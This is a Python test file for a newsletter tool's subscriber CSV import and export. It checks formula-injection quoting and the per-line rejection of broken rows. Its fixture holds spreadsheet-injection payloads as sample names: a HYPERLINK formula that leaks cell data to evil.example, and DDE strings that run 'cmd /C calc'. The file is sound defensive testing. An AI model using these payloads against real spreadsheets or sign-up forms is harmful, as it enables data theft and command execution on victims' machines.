"""Subscribers' CSV in and out: spreadsheet-safe exports that import back unchanged, and broken lines that
are rejected alone, through the real ``newsletter`` program and the admin import page over real HTTP."""

from __future__ import annotations

import csv
import io

from newsletter.db import open_database
from newsletter.subscribers import MAX_REPORTED_ERRORS, add_subscriber, export_csv, import_csv, import_rows
from tests.test_cli import run
from tests.test_signup import admin_client, csrf_of, site  # noqa: F401 (site is a fixture)

# Names as typed into the public sign-up form: each would be a formula in a spreadsheet.
HOSTILE_NAMES = {
    "eq@example.org": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "plus@example.org": "+1+cmd|' /C calc'!A0",
    "minus@example.org": "-2+3",
    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted@example.org": "'=already quoted",
    "plain@example.org": "O'Brien",
}


def test_export_quotes_formulas_and_import_gives_the_names_back(tmp_path):
    db = open_database(tmp_path / "news.db")
    for address, name in HOSTILE_NAMES.items():
        add_subscriber(db, address, name)
    add_subscriber(db, "-dash@example.org", "Dash")  # an address may start with a formula character too
    out = io.StringIO()
    export_csv(db, out)
    db.close()

    rows = {row["email"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
    for address, name in HOSTILE_NAMES.items():
        cell = rows[address]
        assert cell[:1] not in ("=", "+", "-", "@"), cell
        assert cell == ("'" + name if name.lstrip("'")[:1] in "=+-@" else name)
    assert "'-dash@example.org" in rows

    again = open_database(tmp_path / "again.db")
    report = import_rows(again, out.getvalue())
    assert (report.added, report.rejected) == (len(HOSTILE_NAMES) + 1, 0)
    names = dict(again.execute("SELECT email, name FROM subscribers").fetchall())
    assert names == {**HOSTILE_NAMES, "-dash@example.org": "Dash"}
    again.close()


def broken_file() -> tuple[str, list[str]]:
    """Valid rows around a 200,000-character field and an unclosed quote; the addresses that are valid."""
    good = [f"reader{n}@example.org" for n in range(7)]
    lines = [
        "email,name,attributes",
        f"{good[0]},Ana,{{}}",
        f"{good[1]},Bo,",
        f'huge@example.org,"{"x" * 200_000}",',  # line 4
        f"{good[2]},Cy,",
        'stray@example.org,"Dee,"{}"',  # line 6: text after a closing quote
        'unclosed@example.org,"Eve, {""plan"": 1}',  # line 7: the quote is never closed
        f"{good[3]},Fay,",
        f"{good[4]},Gus,",
        "",
        f"{good[5]},Hal,",
        f"{good[6]},Ivy,",
    ]
    return "\n".join(lines) + "\n", good


def test_an_unclosed_quote_costs_its_own_line_only(tmp_path):
    db = open_database(tmp_path / "news.db")
    text = 'email,name\nana@example.org,Ana\nbo@example.org,"Bo\ncy@example.org,Cy\ndee@example.org,Dee\n'
    report = import_rows(db, text)
    stored = [row[0] for row in db.execute("SELECT email FROM subscribers ORDER BY id")]
    assert stored == ["ana@example.org", "cy@example.org", "dee@example.org"]
    assert [line for line, _reason in report.errors] == [3]
    assert (report.added, report.rejected) == (3, 1)
    db.close()


def test_a_file_of_garbage_is_counted_line_by_line_with_a_bounded_report(tmp_path):
    db = open_database(tmp_path / "news.db")
    lines = ["email,name", *(f"not-an-address-{n},x" for n in range(5000)), "ok@example.org,Ok"]
    lines.insert(2, "caf\udcc3@example.org,bad bytes")  # an undecodable byte, as read from a file
    path = tmp_path / "garbage.csv"
    path.write_bytes("\n".join(lines).encode("utf-8", "surrogateescape"))
    report = import_csv(db, path)
    assert (report.added, report.rejected) == (1, 5001)
    assert len(report.errors) == MAX_REPORTED_ERRORS  # every line counted, the first ones explained
    assert report.errors[1] == (3, "the line is not UTF-8 text")
    db.close()


def test_cli_import_keeps_every_valid_row_around_broken_lines(tmp_path):
    text, good = broken_file()
    (tmp_path / "people.csv").write_text(text)
    result = run("--db", str(tmp_path / "news.db"), "subscribers", "import", "people.csv", cwd=tmp_path)
    assert result.returncode == 1, result.stderr  # lines were rejected: said, and the rest imported
    assert "Traceback" not in result.stderr
    assert "imported 7 new subscribers; 0 already known; 3 rows rejected" in result.stdout
    rejected = [line for line in result.stdout.splitlines() if line.startswith("line ")]
    assert [line.split(":")[0] for line in rejected] == ["line 4", "line 6", "line 7"]
    assert "longer than 131,072 characters" in rejected[0]
    assert "not closed on its line" in rejected[2]

    db = open_database(tmp_path / "news.db")
    stored = [row[0] for row in db.execute("SELECT email FROM subscribers ORDER BY id")]
    db.close()
    assert stored == good


def test_admin_import_page_reports_broken_lines_and_keeps_the_rest(site, tmp_path):  # noqa: F811
    settings, app = site
    text, good = broken_file()
    with admin_client(app) as client:
        page = client.get("/admin/import")
        response = client.post(
            "/admin/import",
            data={"csrf": csrf_of(page.text)},
            files={"file": ("people.csv", text.encode(), "text/csv")},
        )
        assert response.status_code == 200
        assert "people.csv: 7 added, 0 already on the list, 3 rejected." in response.text
        for line in (4, 6, 7):
            assert f"<td>{line}</td>" in response.text
        assert "longer than 131,072 characters" in response.text
        assert "not closed on its line" in response.text
    db = open_database(settings.database)
    stored = [row[0] for row in db.execute("SELECT email FROM subscribers ORDER BY id")]
    db.close()
    assert stored == good
